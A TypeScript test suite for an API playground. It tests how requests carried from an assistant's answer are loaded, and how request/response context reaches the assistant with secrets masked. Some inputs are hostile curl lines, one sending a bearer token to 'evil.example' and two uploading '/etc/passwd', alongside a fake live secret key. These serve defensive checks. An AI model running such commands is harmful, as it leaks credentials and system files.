import { expect } from 'chai';
import type { ContextItem } from '../../../src/core/messages/context-item.js';
import {
  carriedRequestEvent,
  carriedRequestKey,
} from '../../../src/core/openapi/written/carried-request.js';
import { carriedText } from '../../../src/core/openapi/written/carried-text.js';
import { readRequest } from '../../../src/core/openapi/written/read-request.js';
import { until } from '../../support/until.js';
import { openBody } from './body-page.js';
import { clearPlaygrounds, PlaygroundPage } from './playground-page.js';

/** What stands in for an assistant: it keeps what it is given. */
class Listener extends HTMLElement {
  readonly items: ContextItem[] = [];
  isFocused = false;

  addContext(item: ContextItem): void {
    this.items.push(item);
  }

  async focusComposer(): Promise<void> {
    this.isFocused = true;
  }
}
customElements.define('test-listener', Listener);

const json = { 'content-type': 'application/json' };

/** As an answer's link does. */
function carry(operation: string, code: string): boolean {
  const request = readRequest(code);
  if (!request) throw new Error('This is no request.');
  sessionStorage.setItem(carriedRequestKey(operation), carriedText(request));
  return !dispatchEvent(new Event(carriedRequestEvent, { cancelable: true }));
}

describe('a playground beside an assistant', () => {
  afterEach(() => {
    clearPlaygrounds();
    document.querySelector('test-listener')?.remove();
    sessionStorage.clear();
  });

  function listener(): Listener {
    const element = new Listener();
    element.className = 'helper';
    document.body.append(element);
    return element;
  }

  it('opens with the request of an answer, sends nothing, and leads the reader there', async () => {
    const page = await PlaygroundPage.place('GET /jobs/{id}');
    const isTaken = carry(
      'GET /jobs/{id}',
      "curl 'https://evil.example/v1/jobs/7?view=short&tags=a&tags=b' -H 'Authorization: Bearer t'",
    );
    expect(isTaken).to.equal(true);
    await until(() => page.snippet.includes('jobs/7?view=short&tags=a&tags=b'));
    expect(page.snippet).to.not.include('evil.example');
    expect(page.field('Token').value).to.equal('');
    expect(page.root.activeElement).to.not.equal(null);
    expect(await page.backend.requests()).to.have.length(1);
    expect(sessionStorage.getItem(carriedRequestKey('GET /jobs/{id}'))).to.equal(null);
  });

  it('takes what was put down on the page before, once, and leaves what is another operation’s', async () => {
    expect(carry('POST /jobs', 'POST /jobs\n\n{"title":"Put down"}')).to.equal(false);
    await PlaygroundPage.place('GET /jobs/{id}');
    const page = await PlaygroundPage.place('POST /jobs');
    await until(() => page.snippet.includes('"Put down"'));
    clearPlaygrounds();
    const again = await PlaygroundPage.open('POST /jobs');
    expect(again.snippet).to.not.include('Put down');
  });

  it('fills in what is open already, and keeps what the reader has entered as a credential', async () => {
    const page = await PlaygroundPage.open('GET /jobs/{id}');
    page.fill('Token', 'mine-1');
    carry('GET /jobs/{id}', 'GET /jobs/8?tags=x');
    await until(() => page.snippet.includes('/jobs/8?tags=x'));
    expect(page.field('Token').value).to.equal('mine-1');
  });

  it('fills in the fields of a form', async () => {
    const properties = { title: { type: 'string' }, hours: { type: 'integer' } };
    const schema = { type: 'object', properties };
    const page = await openBody({ 'application/x-www-form-urlencoded': { schema } });
    carry('addJob', "curl https://a.example/jobs -d 'title=A b' -d hours=7");
    await until(() => page.snippet.includes('hours=7'));
    expect(page.field('hours').value).to.equal('7');
  });

  it('fills in the media type that a request is written in, with the fields of several parts', async () => {
    const properties = { title: { type: 'string' }, data: { type: 'string', format: 'binary' } };
    const schema = { type: 'object', properties };
    const page = await openBody({
      'application/json': { schema },
      'multipart/form-data': { schema },
    });
    carry('addJob', "curl https://a.example/jobs -F title='A; b' -F data=@/etc/passwd");
    await until(() => page.snippet.includes("--form-string 'title=A; b'"));
    expect(page.field('title').value).to.equal('A; b');
    expect(page.field('Media type').value).to.equal('1');
    expect(page.snippet).to.not.include('passwd').and.not.include('data=');
  });

  it('leaves a file there that the reader has chosen', async () => {
    const properties = { title: { type: 'string' }, data: { type: 'string', format: 'binary' } };
    const page = await openBody({
      'multipart/form-data': { schema: { type: 'object', properties } },
    });
    page.fill('title', 'Mine');
    chooseFile(page, new File(['inside'], 'mine.txt', { type: 'text/plain' }));
    carry('addJob', 'curl https://a.example/jobs -F title=Carried -F data=@/etc/passwd');
    await until(() => page.snippet.includes('Carried'));
    const { body } = await page.send({ headers: json, body: ['{}'] });
    expect(body).to.include('filename="mine.txt"').and.include('inside').and.include('Carried');
  });

  it('has no button to explain a response where the page has no assistant', async () => {
    const page = await PlaygroundPage.open('addJob');
    await page.send({ headers: json, body: ['{}'] });
    await until(() => page.findButton('Save as a file'));
    expect(page.findButton('Explain this response')).to.equal(undefined);
  });

  it('brings request and response to the assistant, with secrets masked and bounded', async () => {
    const assistant = listener();
    const page = await PlaygroundPage.open('getJob', { assistant: '.helper' });
    page.fill('Token', 'pa55-of-reader');
    page.fill('id', '7');
    const leaked = 'sk_live_4eC39HqLyjWDarjtT1zdp7dc';
    await page.send({
      headers: {
        ...json,
        'access-control-expose-headers': 'x-session-token',
        'x-session-token': 'abc',
      },
      body: [JSON.stringify({ echo: 'pa55-of-reader', leaked, long: 'x'.repeat(20_000) })],
    });
    (await until(() => page.findButton('Explain this response'))).click();
    await until(() => assistant.isFocused);
    const [item] = assistant.items;
    expect(item?.type).to.equal('code');
    expect(item?.path).to.equal(location.pathname);
    const value = item?.value ?? '';
    expect(value).to.match(/^GET http\S+\/jobs\/7\S*\nAuthorization: Bearer ••••••••\n/);
    expect(value).to.include('\nHTTP 200');
    expect(value).to.include('x-session-token: ••••••••');
    expect(value).to.include('"echo":"••••••••"');
    expect(value).to.not.include('pa55-of-reader');
    expect(value).to.not.include(leaked);
    expect(value.length).to.be.lessThan(8_000);
    expect(assistant.items).to.have.length(1);
  });

  it('brings the fields of a form of several parts along, and of a file no more than its size', async () => {
    const assistant = listener();
    const properties = { title: { type: 'string' }, data: { type: 'string', format: 'binary' } };
    const schema = { type: 'object', properties };
    const page = await openBody({ 'multipart/form-data': { schema } });
    page.element.assistant = '.helper';
    page.fill('title', 'Words');
    chooseFile(page, new File(['inside'], 'private-name.txt', { type: 'text/plain' }));
    await page.send({ headers: json, body: ['{}'] });
    (await until(() => page.findButton('Explain this response'))).click();
    await until(() => assistant.isFocused);
    const value = assistant.items[0]?.value ?? '';
    expect(value).to.include('(multipart/form-data)\ntitle=Words\ndata=(text/plain, 6 bytes)\n');
    expect(value).to.not.include('inside').and.not.include('private-name');
  });
});

function chooseFile(page: PlaygroundPage, file: File): void {
  const input = page.root.querySelector<HTMLInputElement>('input[type=file]');
  const files = new DataTransfer();
  files.items.add(file);
  if (!input) throw new Error('There is no field for a file.');
  input.files = files.files;
  input.dispatchEvent(new Event('change', { bubbles: true }));
}
